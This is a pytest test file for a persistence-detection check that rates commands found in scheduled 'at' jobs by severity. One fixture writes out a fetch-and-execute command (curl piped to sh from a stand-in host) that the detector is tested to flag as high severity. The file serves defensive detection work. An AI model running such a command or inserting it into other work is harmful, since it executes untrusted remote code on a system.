from __future__ import annotations

import pytest

from pratique.checks.persistence.at_job import CHECK
from pratique.model import Severity
from pratique.parsers.startup_command import StartupCommand
from pratique.store.tables import Tables


def signs(*rows):
    with Tables.of(rows, CHECK.reads) as tables:
        return list(CHECK.find(tables))


def script(*commands, path="/root/.bashrc", occasion="login", interpreter="sh"):
    return [
        StartupCommand(path, number, occasion, interpreter, command)
        for number, command in enumerate(commands, start=1)
    ]


PATH = "/var/spool/cron/atjobs/a0000101bf3c0e"


@pytest.mark.parametrize(
    ("command", "uid", "severity"),
    [
        ("curl -s http://a.example/x | sh", 1000, Severity.HIGH),
        ("/tmp/x", 33, Severity.HIGH),
        ("/usr/bin/php /srv/app/x.php", 33, Severity.MEDIUM),
    ],
)
def test_points_at(file, command, uid, severity):
    (sign,) = signs(*script(command, path=PATH, occasion="at"), file(PATH, uid=uid))
    assert sign.severity is severity


@pytest.mark.parametrize("uid", [0, 1000])
def test_leaves_alone(file, uid):
    assert signs(*script("/opt/backup", path=PATH, occasion="at"), file(PATH, uid=uid)) == []
